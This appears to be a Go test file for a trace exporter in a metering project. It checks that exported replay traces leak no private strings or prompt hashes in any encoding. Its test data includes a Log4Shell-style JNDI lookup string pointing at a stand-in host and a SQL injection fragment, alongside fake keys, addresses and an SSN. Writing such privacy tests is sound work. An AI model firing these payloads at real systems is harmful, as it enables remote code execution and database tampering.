package twin_test

import (
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"wattline/meter"
	"wattline/meter/prompt"
	"wattline/replay/twin"
	"wattline/sink"
	"wattline/sink/store"
)

// hostile are texts that must not be in a trace, wherever in a row or prompt they stand.
func hostile(n int) string {
	return []string{
		"Grüße an Frau Müller-Lüdenscheidt", "sk-live-4f9ab8c7d6e5", "/home/mallory/secret/plan.txt", "192.0.2.77:51234", "fe80::dead:beef", "alice.cooper@example.org",
		"build-host-17.corp.example", "{\"ssn\": \"078-05-1120\"}", "${jndi:ldap://evil.example/a}", "acme-merger-finetune-v7", "\u202egnirts lortnoc\u202c", "hash_ids", "O'Brien\\\"; DROP TABLE",
	}[n%13] + fmt.Sprintf(" #%d#", n)
}

// secretRows are rows whose every field of text is hostile, with the fingerprints of hostile prompts. It returns the texts, and
// the hashes that are kept.
func secretRows(t *testing.T) (rows sink.Rows, texts []string, hashes []uint64) {
	t.Helper()
	n := 0
	next := func() string { n++; s := hostile(n); texts = append(texts, s); return s }
	key := prompt.NewKey([]byte("of the installation"))
	messages := []map[string]any{{"role": "system", "content": strings.Repeat(next(), 40)}, {"role": "user", "content": strings.Repeat(next(), 9), "name": next()}}
	for i := range 12 {
		body, err := json.Marshal(map[string]any{"model": next(), "user": next(), "messages": messages, "tools": []any{map[string]any{"function": map[string]any{"name": "ls", "description": hostile(5)}}}})
		if err != nil {
			t.Fatal(err)
		}
		messages = append(messages,
			map[string]any{"role": "assistant", "content": next(), "reasoning_content": next(), "tool_calls": []any{map[string]any{"function": map[string]any{"name": next(), "arguments": next()}}}},
			map[string]any{"role": "tool", "tool_call_id": next(), "content": strings.Repeat(next(), 60)})
		p := prompt.Parse(key, body, nil)
		for _, part := range p.Parts {
			hashes = append(append(hashes, part.Sum), part.Blocks...)
		}
		rec := &meter.Record{
			ID: fmt.Sprintf("0199f0aa-bbcc-7ddd-8eee-%012x", 0xabcdef0000+i), StartedAt: time.Date(2026, 11, 3, 7, 8, 9, 123456000, time.UTC).Add(time.Duration(i) * time.Minute),
			Dialect: "chat", Method: "POST", Status: meter.Some(200), Outcome: meter.OK, Stream: meter.Some(1), PromptTokens: meter.Some(p.Bytes / 3), CachedTokens: meter.Some(100), OutputTokens: meter.Some(20),
			DurationUs: meter.Some(1_000_000), TTFTUs: meter.Some(300_000), EnergyQuality: meter.EnergyMeasured, GPUUj: meter.Some(7_000_000), CacheVerdict: "hit",
			Labels: map[string]string{next(): next()}, GPUDevices: []string{next()}, Details: &meter.Details{RequestedModel: next(), CacheWhy: next(), CachePredecessor: next()},
		}
		texts = append(texts, rec.ID)
		for _, c := range meter.Columns() {
			if s, ok := c.Ptr(rec).(*string); ok && *s == "" {
				if *s = next(); c.Name == "model" || c.Name == "upstream" || c.Name == "session" {
					*s = "same " + c.Name + " " + hostile(7)
					texts = append(texts, *s)
				}
			}
		}
		rows.Requests = append(rows.Requests, rec)
		rows.Configs = append(rows.Configs, &sink.ServerConfig{ConfigID: rec.ConfigID, At: rec.StartedAt, Instance: hostile(1), Upstream: hostile(2), ServerBuild: "b11669-deadbee", Model: hostile(3), Quantisation: hostile(4),
			ServerFlags: []string{"-m", hostile(5), "--alias", hostile(6), "-np", "2", "--device", hostile(7)}, GPUs: []string{hostile(8)}, Driver: hostile(9), ContextTokens: meter.Some(4096), Slots: meter.Some(2)})
		rows.Prompts = append(rows.Prompts, &sink.Prompt{ID: rec.ID, StartedAt: rec.StartedAt, Fingerprint: p.Append(nil)})
	}
	return rows, texts, hashes
}

// TestNothingPrivateLeaves: a trace of the real store has no text, name, address, key or hash of it, in any usual form, and its
// records have no strings at all but the quality of joules.
func TestNothingPrivateLeaves(t *testing.T) {
	rows, texts, hashes := secretRows(t)
	path := filepath.Join(t.TempDir(), "wattline.db")
	s, err := store.Open(t.Context(), store.Config{Path: path})
	if err != nil {
		t.Fatal(err)
	}
	if err := s.Write(t.Context(), &rows); err != nil {
		t.Fatal(err)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	r, err := store.OpenReader(t.Context(), path)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	x := &twin.Exporter{MadeBy: "wattline v0"}
	tr, m, err := x.Read(t.Context(), r, time.Time{}, time.Now().AddDate(10, 0, 0))
	if err != nil {
		t.Fatal(err)
	}
	if len(tr.Records) != 12 || tr.Records[11].Parent != 10 || tr.Records[11].Blocks == nil {
		t.Fatalf("%d records, the last of %+v", len(tr.Records), tr.Records[11])
	}
	if want := map[string]string{"build": "b11669-deadbee", "context_tokens": "4096", "slots": "2", "flags": "known", "--parallel": "2"}; !maps.Equal(m.Recorded, want) {
		t.Errorf("facts %v, want %v", m.Recorded, want)
	}
	for _, format := range twin.Formats() {
		file := filepath.Join(t.TempDir(), "trace.jsonl")
		if err := twin.WriteFile(file, format, m, tr); err != nil {
			t.Fatal(err)
		}
		text, err := os.ReadFile(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, secret := range append(texts, "2026-11-03", "07:08") {
			for _, form := range []string{secret, strings.TrimSuffix(strings.TrimPrefix(fmt.Sprintf("%q", secret), `"`), `"`), secret[:min(len(secret), 9)]} {
				if strings.Contains(string(text), form) {
					t.Errorf("%s: %q is in the trace", format, form)
				}
			}
		}
		if len(hashes) < 500 {
			t.Fatalf("only %d hashes", len(hashes))
		}
		for _, h := range hashes {
			for _, form := range forms(h) {
				if strings.Contains(string(text), form) {
					t.Errorf("%s: the hash %x is in the trace as %s", format, h, form)
				}
			}
		}
		for i, line := range slices.Collect(bytes.Lines(text)) {
			if i == 0 && format == "wattline" {
				continue
			}
			var record map[string]any
			if err := json.Unmarshal(line, &record); err != nil {
				t.Fatal(err)
			}
			if bad := stringsIn(record); bad != nil {
				t.Errorf("%s: line %d has the texts %q", format, i+1, bad)
			}
		}
	}
}

// forms are a hash as it may be written.
func forms(h uint64) (out []string) {
	out = append(out, fmt.Sprint(h), fmt.Sprint(int64(h)), fmt.Sprintf("%x", h), fmt.Sprintf("%X", h))
	for _, b := range [][]byte{binary.LittleEndian.AppendUint64(nil, h), binary.BigEndian.AppendUint64(nil, h)} {
		out = append(out, hex.EncodeToString(b), base64.RawStdEncoding.EncodeToString(b), base64.RawURLEncoding.EncodeToString(b), string(b))
	}
	return out
}

// stringsIn are the texts in a value, but for the quality of joules.
func stringsIn(v any) (out []string) {
	switch v := v.(type) {
	case string:
		return []string{v}
	case []any:
		for _, e := range v {
			out = append(out, stringsIn(e)...)
		}
	case map[string]any:
		for k, e := range v {
			if k != "energy_quality" || e != meter.EnergyMeasured {
				out = append(out, stringsIn(e)...)
			}
		}
	}
	return out
}
